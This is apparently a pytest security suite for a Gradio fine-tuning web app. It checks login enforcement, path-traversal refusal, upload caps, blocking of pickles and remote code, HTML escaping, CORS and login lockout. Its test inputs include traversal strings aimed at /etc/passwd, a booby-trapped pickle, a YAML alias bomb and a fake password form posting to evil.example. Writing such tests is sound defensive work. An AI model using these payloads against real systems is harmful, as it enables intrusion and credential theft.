"""Nobody let in: exposure needs a login, the login leaks nothing, uploads are capped, files and run names stay
inside their folders, model code and pickles run only when asked. Checked through the HTTP interface of a
running app (raw requests and gradio_client), not only by calling functions."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import uuid
from pathlib import Path

import gradio as gr
import httpx
import pytest
from gradio_client.exceptions import AppError

from qlora_ui.studio import Studio
from qlora_ui.ui import handlers as h
from qlora_ui.ui.app import FORM_KEYS
from tests.fault_helpers import (
    ROOT,
    bad_model_folders,
    fake_hub_repo,
    fast_cfg,
    form,
    run_dirs,
    wait_for,
    write_rows,
)

AUTH = ("alice", "correct horse")
BOB = ("bob", "battery staple")  # the login-throttling test locks this user out; the others sign in as alice
HUB_REPO = "evil-org/evil-model"
CAP = 4096  # --max-file-size, bytes


def app_exit(*flags: str, tmp: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "app.py", "--runs-dir", str(tmp / "runs"), *flags], cwd=ROOT,
                          capture_output=True, text=True, timeout=60)


@pytest.mark.parametrize("flags", [["--share"], ["--host", "0.0.0.0"], ["--host", "192.168.1.20"],
                                   ["--host", "0.0.0.0", "--auth-file", "EMPTY"]],
                         ids=["share", "all-interfaces", "lan-address", "empty-auth-file"])
def test_exposure_without_a_login_refuses_to_start(flags, tmp_path):
    empty = tmp_path / "auth.txt"
    empty.write_text("# no users yet\n")
    out = app_exit(*[str(empty) if f == "EMPTY" else f for f in flags], tmp=tmp_path)
    assert out.returncode == 2, out.stderr
    assert out.stderr.startswith("error:") and "--auth" in out.stderr and "Traceback" not in out.stderr


class Evil:
    """A pickle that leaves a mark when anything unpickles it."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (Path.write_text, (self.marker, "pwned"))


@pytest.fixture(scope="module")
def secured(tmp_path_factory, tiny_model_dir, bundled_dir):
    from tests.test_browser import start_app

    tmp = tmp_path_factory.mktemp("secured")
    models = bad_model_folders(tmp / "models", tiny_model_dir)
    # safetensors next to a booby-trapped pickle: only the safetensors may be read.
    trapped = models["trapped"] = tmp / "models" / "trapped"
    shutil.copytree(tiny_model_dir, trapped)
    import torch

    torch.save(Evil(tmp / "PWNED"), trapped / "pytorch_model.bin")  # torch.load(weights_only=False) would run it
    outside = tmp / "outside-model"
    shutil.copytree(tiny_model_dir, outside)
    fake = tmp / "runs" / "20260101-000000-fake"
    fake.mkdir(parents=True)
    (fake / "config.yaml").write_text("name: fake\n")
    victim = tmp / "victim"
    victim.mkdir()
    (victim / "config.yaml").write_text("name: victim\n")
    (tmp / "secret.txt").write_text("the launch codes\n")
    data = write_rows(tmp / "train.jsonl")
    assert data.stat().st_size < CAP
    # A hub repository already in the (offline) hub cache whose auto_map code leaves a mark when imported.
    hub_marker = tmp / "REMOTE-CODE-RAN"
    fake_hub_repo(tmp / "hub", HUB_REPO, tiny_model_dir, hub_marker)
    auth_file = tmp / "users.txt"
    auth_file.write_text(f"{AUTH[0]}:{AUTH[1]}\n{BOB[0]}:{BOB[1]}\n")
    auth_file.chmod(0o600)
    env = {"HF_HUB_CACHE": str(tmp / "hub"), "HF_MODULES_CACHE": str(tmp / "modules"),
           "GRADIO_TEMP_DIR": str(tmp / "gradio-cache"), "TMPDIR": str(tmp / "tmp")}
    (tmp / "tmp").mkdir()
    proc, url = start_app(tmp, tiny_model_dir, "--auth-file", str(auth_file), "--max-file-size", f"{CAP}b",
                          env_extra=env)
    log = next(tmp.glob("app-*.log"))
    yield dict(tmp=tmp, url=url, proc=proc, models=models, outside=outside, fake=fake, victim=victim, data=data,
               hub_marker=hub_marker, env=env, log=log)
    proc.terminate()
    proc.wait(30)


def logged_in(url: str) -> httpx.Client:
    c = httpx.Client(base_url=url, timeout=60)
    r = c.post("/login", data={"username": AUTH[0], "password": AUTH[1]})
    assert r.status_code == 200 and r.json() == {"success": True}
    return c


def client(url: str):
    from gradio_client import Client

    return Client(url, auth=AUTH, verbose=False)


@pytest.mark.slow
def test_binds_to_loopback_by_default(secured):
    import psutil

    listening = [c.laddr for c in psutil.Process(secured["proc"].pid).net_connections(kind="tcp")
                 if c.status == psutil.CONN_LISTEN]
    assert listening and {a.ip for a in listening} == {"127.0.0.1"}


@pytest.mark.slow
def test_without_a_login_nothing_is_reachable(secured):
    from gradio_client import Client

    url = secured["url"]
    anon = httpx.Client(base_url=url, timeout=30)
    for method, path in [("GET", "/config"), ("GET", "/gradio_api/info"), ("POST", "/gradio_api/call/list_runs"),
                         ("POST", "/gradio_api/upload"), ("POST", "/gradio_api/queue/join"),
                         ("GET", f"/gradio_api/file={ROOT / 'presets' / 'data' / 'pirate_chat.jsonl'}")]:
        r = anon.request(method, path, json={"data": []} if method == "POST" else None)
        assert r.status_code == 401, (path, r.status_code, r.text[:200])
    with pytest.raises(ValueError, match="credentials were not provided"):
        Client(url, verbose=False)
    with pytest.raises(ValueError, match="Could not login"):
        Client(url, auth=(AUTH[0], "wrong"), verbose=False)


@pytest.mark.slow
def test_failed_logins_do_not_say_which_part_was_wrong(secured):
    url = secured["url"]
    answers = []
    for user, pw in [("mallory", AUTH[1]), (AUTH[0], "wrong"), ("mallory", "wrong"), (AUTH[0].upper(), AUTH[1])]:
        r = httpx.post(url + "/login", data={"username": user, "password": pw})
        assert not r.cookies
        answers.append((r.status_code, r.text))
    assert len(set(answers)) == 1 and answers[0][0] == 400, answers
    logged_in(url)


@pytest.mark.slow
def test_uploads_over_the_cap_are_refused(secured):
    c = logged_in(secured["url"])
    r = c.post("/gradio_api/upload", files={"files": ("big.jsonl", b"x" * (CAP + 1))})
    assert r.status_code == 413 and "maximum allowed size" in r.text
    r = c.post("/gradio_api/upload", files={"files": ("small.jsonl", b"x" * 100)})
    assert r.status_code == 200 and len(r.json()) == 1
    assert secured["proc"].poll() is None


@pytest.mark.slow
def test_the_file_route_serves_only_allowed_paths(secured):
    c = logged_in(secured["url"])
    tmp = secured["tmp"]
    refused = ["/etc/passwd", str(secured["fake"] / "config.yaml"), str(tmp / "runs"), str(tmp / "secret.txt"),
               str(ROOT / "app.py"), str(ROOT / "presets" / "cpu-quickstart.yaml"),
               str(ROOT / "presets" / "data" / ".." / "cpu-quickstart.yaml"),
               str(ROOT / "presets" / "data" / "%2E%2E" / "%2E%2E" / "app.py"), "../../../../etc/passwd",
               "..%2F..%2F..%2Fetc%2Fpasswd", str(secured["models"]["tiny"] / "config.json")]
    for path in refused:
        r = c.get(f"/gradio_api/file={path}")
        assert r.status_code in (403, 404), (path, r.status_code, r.text[:100])
        assert "launch codes" not in r.text and "root:" not in r.text
    # the one allowed folder: the bundled dataset the quick-start form points at
    r = c.get(f"/gradio_api/file={ROOT / 'presets' / 'data' / 'pirate_chat.jsonl'}")
    assert r.status_code == 200 and '"messages"' in r.text


@pytest.mark.slow
def test_a_server_path_cannot_pose_as_an_upload(secured):
    """A client may only hand the app files it uploaded, never a path on the server."""
    c = logged_in(secured["url"])
    vals = form(fast_cfg(secured["models"]["tiny"], secured["data"]))
    for path in [str(secured["tmp"] / "secret.txt"), "/etc/passwd", str(secured["fake"] / "config.yaml")]:
        vals[FORM_KEYS.index("data_path")] = {"path": path, "meta": {"_type": "gradio.FileData"}}
        event = c.post("/gradio_api/call/inspect_data", json={"data": vals}).json()["event_id"]
        text = c.get(f"/gradio_api/call/inspect_data/{event}").text
        assert "event: error" in text and "not uploaded by a user" in text, text[:300]
        assert "launch codes" not in text and "root:" not in text


@pytest.mark.slow
def test_run_names_cannot_escape_the_runs_dir(secured):
    api = client(secured["url"])
    names = [r[0] for r in api.predict(api_name="/list_runs")[0]["data"]]
    # Exactly the runs in the runs folder, whatever other tests of this module left there.
    assert sorted(names) == sorted(p.name for p in run_dirs(secured["tmp"] / "runs")) and secured["fake"].name in names
    assert secured["fake"].name in api.predict(secured["fake"].name, api_name="/run_details")[0]
    for name in ["../victim", str(secured["victim"]), "../../etc", "..", "../runs/../victim"]:
        for endpoint in ["/run_details", "/delete_run", "/resume_training"]:
            with pytest.raises(AppError, match="not in the list of choices"):
                api.predict(name, api_name=endpoint)
    assert (secured["victim"] / "config.yaml").is_file() and secured["fake"].is_dir()
    # Behind Gradio's choice check, the handlers confine names themselves (a renamed dropdown cannot help).
    studio = Studio(secured["tmp"] / "runs")
    for name in ["../victim", str(secured["victim"]), f"{secured['fake'].name}/../../victim"]:
        with pytest.raises(gr.Error):
            h.delete_run(studio, name)
        with pytest.raises(gr.Error):
            h.run_details(studio, name)
    assert (secured["victim"] / "config.yaml").is_file()


@pytest.mark.slow
def test_typed_model_paths_stay_inside_the_model_root(secured):
    from gradio_client import handle_file

    api = client(secured["url"])
    root = secured["tmp"] / "models"
    before = run_dirs(secured["tmp"] / "runs")
    for typed in [str(secured["outside"]), f"{root}/../outside-model", "/etc", "~/", "../../.."]:
        vals = form(fast_cfg(root / "tiny", secured["data"]), base_model=typed,
                    data_path=handle_file(str(secured["data"])))
        with pytest.raises(AppError, match="outside the folders this app may read"):
            api.predict(*vals, api_name="/start_training")
        summary = api.predict(*vals, api_name="/inspect_data")[0]
        assert "outside the folders" in summary, summary
    vals = form(fast_cfg(root / "tiny", secured["data"]), name="../../evil",
                data_path=handle_file(str(secured["data"])))
    with pytest.raises(AppError, match="'../../evil': use 1-64 letters"):
        api.predict(*vals, api_name="/start_training")
    assert run_dirs(secured["tmp"] / "runs") == before


def runs_client(url: str):
    """A client whose session has listed the runs (the Runs tab's dropdown only takes listed names)."""
    api = client(url)
    api.predict(api_name="/list_runs")
    return api


def queue_call(c: httpx.Client, api_name: str, data: list) -> list[dict]:
    """Call an event through the queue as the browser does, collecting every message (including warnings)."""
    deps = c.get("/config").json()["dependencies"]
    fn = next(i for i, d in enumerate(deps) if d.get("api_name") == api_name)
    session = uuid.uuid4().hex[:12]
    r = c.post("/gradio_api/queue/join", json={"data": data, "fn_index": fn, "session_hash": session,
                                               "event_data": None, "trigger_id": deps[fn].get("id")})
    assert r.status_code == 200, r.text
    msgs = []
    with c.stream("GET", f"/gradio_api/queue/data?session_hash={session}") as s:
        for line in s.iter_lines():
            if line.startswith("data:"):
                msgs.append(json.loads(line[5:]))
                if msgs[-1].get("msg") == "process_completed":
                    break
    return msgs


def upload(c: httpx.Client, path: Path, name: str | None = None) -> dict:
    r = c.post("/gradio_api/upload", files={"files": (name or path.name, path.read_bytes())})
    assert r.status_code == 200, r.text
    return {"path": r.json()[0], "orig_name": name or path.name, "meta": {"_type": "gradio.FileData"}}


@pytest.mark.slow
def test_remote_code_and_pickles_cannot_be_turned_on_by_a_request(secured):
    """Finding 1: a hub id with trust_remote_code ran the repo's auto_map Python inside the app."""
    c = logged_in(secured["url"])
    models = secured["models"]
    # Off by default in the form the app serves.
    preset = queue_call(c, "load_preset", ["cpu-quickstart"])[-1]["output"]["data"]
    assert preset[FORM_KEYS.index("trust_remote_code")] is False and preset[FORM_KEYS.index("allow_pickle")] is False

    data = upload(c, secured["data"])
    before = run_dirs(secured["tmp"] / "runs")
    attempts = [(HUB_REPO, dict(trust_remote_code=True), "trust_remote_code"),
                (str(models["remote_code"]), dict(trust_remote_code=True), "trust_remote_code"),
                (str(models["pickle_only"]), dict(allow_pickle=True), "allow_pickle"),
                (str(models["tiny"]), dict(trust_remote_code=True, allow_pickle=True), "allow_pickle")]
    for model, flags, words in attempts:
        vals = form(fast_cfg(model, secured["data"], **flags), data_path=data)
        done = queue_call(c, "start_training", vals)[-1]
        assert done["success"] is False, (model, done)
        assert words in done["output"]["error"] and "--allow-remote-code" in done["output"]["error"], done
        summary = queue_call(c, "inspect_data", vals)[-1]["output"]["data"][0]
        assert "--allow-remote-code" in summary, summary
    assert run_dirs(secured["tmp"] / "runs") == before
    assert not secured["hub_marker"].exists()

    # The cached repo is real bait: loaded with trust_remote_code outside the app, its code does run.
    control = secured["tmp"] / "control-marker"
    fake_hub_repo(secured["tmp"] / "hub-control", HUB_REPO, models["tiny"], control)
    env = {**os.environ, "HF_HUB_OFFLINE": "1", "HF_HUB_CACHE": str(secured["tmp"] / "hub-control"),
           "HF_MODULES_CACHE": str(secured["tmp"] / "modules-control")}
    subprocess.run([sys.executable, "-c", "from transformers import AutoConfig; "
                    f"AutoConfig.from_pretrained({HUB_REPO!r}, trust_remote_code=True)"], env=env, check=True,
                   capture_output=True, timeout=120)
    assert control.read_text() == "remote code ran"

    # With both options off, a folder with safetensors never has its pickle opened.
    vals = form(fast_cfg(models["trapped"], secured["data"], max_steps=2, save_steps=2, name="trusted"),
                data_path=data)
    assert queue_call(c, "start_training", vals)[-1]["success"] is True
    run = wait_for(lambda: [p for p in run_dirs(secured["tmp"] / "runs") if p.name.endswith("-trusted")], 30, "run")[0]
    wait_for(lambda: json.loads((run / "status.json").read_text())["state"] in ("finished", "failed"), 90,
             "the trusted run to end")
    assert json.loads((run / "status.json").read_text())["state"] == "finished"
    assert not (secured["tmp"] / "PWNED").exists()


def test_only_the_operator_turns_on_remote_code(tmp_path):
    """The launch flag is the only switch: the same config is refused by a default Studio, allowed by one
    started with --allow-remote-code, and hub ids can be limited to an allow-list."""
    from qlora_ui.config import ConfigError, ModelConfig

    m = ModelConfig(base_model=HUB_REPO, trust_remote_code=True)
    with pytest.raises(ConfigError, match="--allow-remote-code"):
        Studio(tmp_path / "a").check_model(m)
    Studio(tmp_path / "b", allow_remote_code=True).check_model(m)
    limited = Studio(tmp_path / "c", allowed_models=["meta-llama/*", "Qwen/Qwen2.5-7B"])
    limited.check_model(ModelConfig(base_model="meta-llama/Llama-2-7b-hf"))
    limited.check_model(ModelConfig(base_model="Qwen/Qwen2.5-7B"))
    with pytest.raises(ConfigError, match="--allowed-models"):
        limited.check_model(ModelConfig(base_model=HUB_REPO))


# ---- a shared link among strangers (issue: remote code, unbounded inputs, stored HTML, presets) ----

def chat_call(c: httpx.Client, message: str, max_new_tokens: int = 64, abandon_after: int | None = None
              ) -> tuple[dict | None, float]:
    """One chat request through the queue as a browser sends it: (the final message or None if abandoned,
    seconds taken). With `abandon_after`, the client hangs up after that many streamed updates."""
    import time

    deps = c.get("/config").json()["dependencies"]
    fn = next(i for i, d in enumerate(deps) if d.get("api_name") == "chat")
    session = uuid.uuid4().hex[:12]
    data = ["Base model only", None, "", 0.0, 0.9, max_new_tokens, 0, message, []]
    t0 = time.time()
    r = c.post("/gradio_api/queue/join", json={"data": data, "fn_index": fn, "session_hash": session,
                                               "event_data": None, "trigger_id": deps[fn].get("id")})
    assert r.status_code == 200, r.text
    updates = 0
    with c.stream("GET", f"/gradio_api/queue/data?session_hash={session}") as s:
        for line in s.iter_lines():
            if not line.startswith("data:"):
                continue
            msg = json.loads(line[5:])
            if msg.get("msg") == "process_generating":
                updates += 1
                if abandon_after and updates >= abandon_after:
                    return None, time.time() - t0
            if msg.get("msg") == "process_completed":
                return msg, time.time() - t0
    raise AssertionError("the stream ended without a result")


def reply_text(done: dict) -> str:
    content = done["output"]["data"][0][-1]["content"]
    return "".join(p.get("text", "") for p in content) if isinstance(content, list) else content


@pytest.mark.slow
def test_huge_chat_messages_are_refused_and_others_still_answered(secured):
    """Finding 2a: a 1 MB message took the CPU for minutes and starved every other chat."""
    c = logged_in(secured["url"])
    done, _ = chat_call(c, "Hello!")  # loads the bundled model once
    assert done["success"] is True and reply_text(done).strip(), done
    done, took = chat_call(c, "x" * 1_000_000)
    assert done["success"] is False and "1,000,000 characters" in done["output"]["error"], done
    assert took < 10, took
    # Under the character cap but over the prompt-token cap: refused by its token count, not cut silently.
    done, took = chat_call(c, "zq " * 2600)
    assert done["success"] is False and "tokens" in done["output"]["error"], done
    assert took < 20, took
    other = logged_in(secured["url"])
    done, took = chat_call(other, "What is the capital of France?", max_new_tokens=16)
    assert done["success"] is True and reply_text(done).strip() and took < 60, (done, took)


@pytest.mark.slow
def test_an_abandoned_chat_stops_generating(secured):
    """Finding 2b: generation went on for nobody after the client left, holding the model for everyone else."""
    import time

    c = logged_in(secured["url"])
    chat_call(c, "Hi")  # model loaded
    before = secured["log"].read_text().count("generation stopped")
    done, _ = chat_call(c, "Write a very long story about a dragon, in twenty chapters.", max_new_tokens=1024,
                        abandon_after=3)
    assert done is None
    wait_for(lambda: secured["log"].read_text().count("generation stopped") > before, 30,
             "the app to stop generating for the client that left")
    t0 = time.time()
    done, _ = chat_call(logged_in(secured["url"]), "Say yes.", max_new_tokens=8)
    assert done["success"] is True and time.time() - t0 < 30


@pytest.mark.slow
def test_long_text_fields_are_refused_before_any_work(secured):
    """Finding 3: a 5 MB system prompt held the one-at-a-time data inspection for 6+ minutes."""
    import time

    c = logged_in(secured["url"])
    data = upload(c, secured["data"])
    base = fast_cfg(secured["models"]["tiny"], secured["data"])
    for key, value, words in [("system_prompt", "s" * 5_000_000, "limit is 4,000"),
                              ("name", "n" * 100_000, "limit is 256"),
                              ("base_model", "m" * 100_000, "limit is 1,024"),
                              ("target_modules", "q_proj," * 20_000, "limit is 256")]:
        t0 = time.time()
        done = queue_call(c, "inspect_data", form(base, data_path=data, **{key: value}))[-1]
        assert done["success"] is False and words in done["output"]["error"], (key, str(done)[:300])
        assert len(done["output"]["error"]) < 2000  # the value is not echoed back whole
        assert time.time() - t0 < 15, key


@pytest.mark.slow
def test_column_map_alias_bomb_is_refused_quickly(secured):
    """Finding 4: column_map was parsed as YAML; 388 bytes of nested aliases took 6 s and ~1 GB."""
    import time

    import psutil

    bomb = "{a: &a [x,x,x,x,x,x,x,x,x,x], b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a], " \
           "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b], d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c], " \
           "e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d], f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e,*e], " \
           "g: [*f,*f,*f,*f,*f,*f,*f,*f,*f,*f]}"
    c = logged_in(secured["url"])
    data = upload(c, secured["data"])
    rss = psutil.Process(secured["proc"].pid).memory_info().rss
    t0 = time.time()
    done = queue_call(c, "inspect_data", form(fast_cfg(secured["models"]["tiny"], secured["data"]), data_path=data,
                                              column_map=bomb))[-1]
    assert done["success"] is False and "question=instruction, answer=output" in done["output"]["error"], done
    assert time.time() - t0 < 5
    assert psutil.Process(secured["proc"].pid).memory_info().rss - rss < 200 * 2**20
    # The documented form, typed with spaces, works.
    rows = secured["tmp"] / "qa.jsonl"
    rows.write_text("".join(json.dumps({"question": f"Q{i}?", "answer": f"A{i}."}) + "\n" for i in range(20)))
    summary = queue_call(c, "inspect_data", form(fast_cfg(secured["models"]["tiny"], rows), data_path=upload(c, rows),
                                                 column_map="question=instruction, answer=output"))
    assert "alpaca" in summary[-1]["output"]["data"][0], summary[-1]


@pytest.mark.slow
def test_a_foreign_origin_gets_no_credentialed_access(secured):
    """Finding 5: reached by a non-localhost name, Gradio granted any Origin with credentials."""
    c = logged_in(secured["url"])
    cookies = dict(c.cookies)
    host = {"Host": "studio.example.net"}  # as behind a share link or a LAN name
    evil = {**host, "Origin": "https://evil.example"}
    pre = httpx.options(secured["url"] + "/gradio_api/call/list_runs", headers={
        **evil, "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "content-type"})
    assert pre.status_code == 403 and "access-control-allow-origin" not in pre.headers, pre.headers
    for method, path in [("POST", "/gradio_api/call/list_runs"), ("GET", "/config"), ("GET", "/gradio_api/info")]:
        r = httpx.request(method, secured["url"] + path, headers=evil, cookies=cookies,
                          json={"data": []} if method == "POST" else None)
        assert r.status_code == 403 and "access-control-allow-origin" not in r.headers, (path, r.status_code)
    # The app's own origin on that host name still works.
    own = httpx.post(secured["url"] + "/gradio_api/call/list_runs", json={"data": []}, cookies=cookies,
                     headers={**host, "Origin": "https://studio.example.net"})
    assert own.status_code == 200 and "event_id" in own.json(), own.text
    # The login cookie is not sent by other sites' pages at all.
    r = httpx.post(secured["url"] + "/login", data={"username": AUTH[0], "password": AUTH[1]})
    cookies = r.headers.get_list("set-cookie")
    assert cookies and all("samesite=lax" in h.lower() for h in cookies), cookies


@pytest.mark.slow
def test_html_from_files_and_runs_shows_as_text(secured):
    """Finding 6: a CSV header with <form>/<img> rendered as a working fake form in every session's Runs tab."""
    c = logged_in(secured["url"])
    payload = '<form action="http://evil.example/"><input type="password" name="pw"></form>' \
              '<img src="http://evil.example/x.png">'
    bad = secured["tmp"] / "evil.csv"
    bad.write_text(f'"{payload.replace(chr(34), chr(34) * 2)}",other\n1,2\n3,4\n')
    fence = secured["tmp"] / "fence.jsonl"
    fence.write_text(json.dumps({"instruction": "hi", "output": "yo", "```\n<img src=x>": "z"}) + "\n")
    base = fast_cfg(secured["models"]["tiny"], bad)
    texts = []
    for path in (bad, fence):
        texts.append(queue_call(c, "inspect_data", form(base, data_path=upload(c, path)))[-1]["output"]["data"][0])
    # A run whose status message holds the same text (as a failed run's error would).
    run = secured["tmp"] / "runs" / "20260102-000000-html"
    (run / "adapter").mkdir(parents=True)
    (run / "config.yaml").write_text("name: html\n")
    (run / "status.json").write_text(json.dumps({"state": "failed", "message": f"column {payload} is unknown"}))
    texts.append(runs_client(secured["url"]).predict(run.name, api_name="/run_details")[0])
    assert "evil.example" in texts[0] and "evil.example" in texts[2]
    for text in texts:
        low = text.lower()
        assert "<form" not in low and "<img" not in low and "<input" not in low, text
    # The summary block cannot be closed early from inside: one <pre>, one </pre>, at the ends.
    fenced = texts[1].split("\n\n**Next:**")[0].strip()
    assert fenced.startswith("<pre") and fenced.endswith("</pre>") and texts[1].count("</pre>") == 1, texts[1]
    assert "&lt;form" in texts[0] and "&lt;img" in texts[2]
    shutil.rmtree(run)


@pytest.mark.slow
def test_bundled_presets_cannot_be_replaced(secured):
    """Finding 7: save_preset('cpu-quickstart') replaced the bundled preset for everyone; '.x' made dot-files."""
    import hashlib

    bundled = ROOT / "presets" / "cpu-quickstart.yaml"
    digest = hashlib.sha256(bundled.read_bytes()).hexdigest()
    api = client(secured["url"])
    vals = form(fast_cfg(secured["models"]["tiny"], secured["data"], max_steps=999999), data_path=None)
    for name in ["cpu-quickstart", "qlora-paper", ".", "..", ".hidden", "../cpu-quickstart", "a/b"]:
        with pytest.raises(AppError, match="preset name"):
            api.predict(name, *vals, api_name="/save_preset")
    assert hashlib.sha256(bundled.read_bytes()).hexdigest() == digest
    assert not list((ROOT / "presets").glob(".*.yaml")) and not list((ROOT / "presets").glob(".yaml"))
    user = ROOT / "presets" / "user" / "sec-test-mine.yaml"
    try:
        api.predict("sec-test-mine", *vals, api_name="/save_preset")
        assert user.is_file() and "999999" in user.read_text()
        loaded = api.predict("sec-test-mine", api_name="/load_preset")
        assert loaded[FORM_KEYS.index("max_steps")] == 999999
        loaded = api.predict("cpu-quickstart", api_name="/load_preset")
        assert loaded[FORM_KEYS.index("max_steps")] != 999999
    finally:
        user.unlink(missing_ok=True)


@pytest.mark.slow
def test_repeated_failed_logins_lock_that_user_name(secured):
    """Finding 8a: 30 bad logins in 0.04 s, then the right password worked."""
    url = secured["url"]
    codes = [httpx.post(url + "/login", data={"username": BOB[0], "password": f"guess{i}"}).status_code
             for i in range(5)]
    assert codes == [400] * 5
    r = httpx.post(url + "/login", data={"username": BOB[0], "password": BOB[1]})
    assert r.status_code == 429 and "Try again in" in r.text and int(r.headers["retry-after"]) > 0, r.text
    logged_in(url)  # another user is not locked out


@pytest.mark.slow
def test_adapter_zips_do_not_pile_up(secured):
    """Finding 8b: run_details left a fresh adapter zip in the temp folder on every call."""
    run = secured["tmp"] / "runs" / "20260103-000000-zipped"
    (run / "adapter").mkdir(parents=True)
    (run / "config.yaml").write_text("name: zipped\n")
    (run / "adapter" / "adapter_config.json").write_text("{}")
    (run / "adapter" / "adapter_model.safetensors").write_bytes(os.urandom(200_000))
    api = runs_client(secured["url"])
    tmp = Path(secured["env"]["TMPDIR"])
    cache = Path(secured["env"]["GRADIO_TEMP_DIR"])

    def zips(folder: Path) -> list[Path]:
        return [p for p in folder.rglob("*.zip") if "zipped" in p.name]

    downloads = [api.predict(run.name, api_name="/run_details")[2] for _ in range(6)]
    assert all(downloads)
    assert len(zips(tmp)) == 1 and len(zips(cache)) == 1, (zips(tmp), zips(cache))
    (run / "adapter" / "adapter_model.safetensors").write_bytes(os.urandom(200_000))  # a new adapter version
    api.predict(run.name, api_name="/run_details")
    assert len(zips(tmp)) == 1, zips(tmp)
    shutil.rmtree(run)


@pytest.mark.slow
def test_outside_paths_say_nothing_and_server_paths_stay_hidden(secured):
    """Finding 8c-f: the planner read config.json outside --model-root and told whether paths existed; the
    login page carried the API description; error texts showed absolute server paths."""
    c = logged_in(secured["url"])
    base = fast_cfg(secured["models"]["tiny"], secured["data"])
    answers = []
    for typed in [str(secured["outside"]), str(secured["tmp"] / "no-such-model")]:
        out = queue_call(c, "inspect_data", form(base, base_model=typed, data_path=None))[-1]["output"]["data"]
        answers.append(out[0].replace(typed, "PATH").replace(typed.replace("-", "\\-"), "PATH"))
        assert out[4] == "", out[4]  # no memory estimate was made from that config.json
    assert answers[0] == answers[1] and "outside the folders" in answers[0], answers
    assert str(secured["tmp"]) not in answers[0].replace("\\", "")
    anon = httpx.get(secured["url"] + "/")
    assert anon.status_code == 200 and "window.gradio_api_info = null" in anon.text
    assert "pirate_chat" not in anon.text and "start_training" not in anon.text
    assert "start_training" in c.get("/").text  # signed in, the page is whole
    details = runs_client(secured["url"]).predict(secured["fake"].name, api_name="/run_details")[0]
    assert str(secured["tmp"]) not in details.replace("\\", ""), details


def test_a_world_writable_auth_file_is_refused(tmp_path):
    auth = tmp_path / "users.txt"
    auth.write_text("alice:pw\n")
    auth.chmod(0o666)
    out = app_exit("--auth-file", str(auth), tmp=tmp_path)
    assert out.returncode == 2, out
    assert "chmod 600" in out.stderr and "Traceback" not in out.stderr, out.stderr


def test_loading_never_unpickles_a_bin_only_folder_without_allow_pickle(tmp_path, tiny_model_dir):
    """The second line of defence behind the preflight check: the loader itself asks for safetensors only.
    The folder holds only a booby-trapped pytorch_model.bin, so nothing else could be picked instead."""
    import torch

    from qlora_ui.config import ModelConfig, QuantConfig
    from qlora_ui.modeling import load_base_model

    folder = tmp_path / "bin-only"
    folder.mkdir()
    shutil.copy(tiny_model_dir / "config.json", folder / "config.json")
    torch.save(Evil(tmp_path / "PWNED"), folder / "pytorch_model.bin")
    with pytest.raises(Exception) as e:
        load_base_model(str(folder), ModelConfig(base_model=str(folder)), QuantConfig())
    assert "safetensors" in str(e.value).lower(), e.value
    assert not (tmp_path / "PWNED").exists()
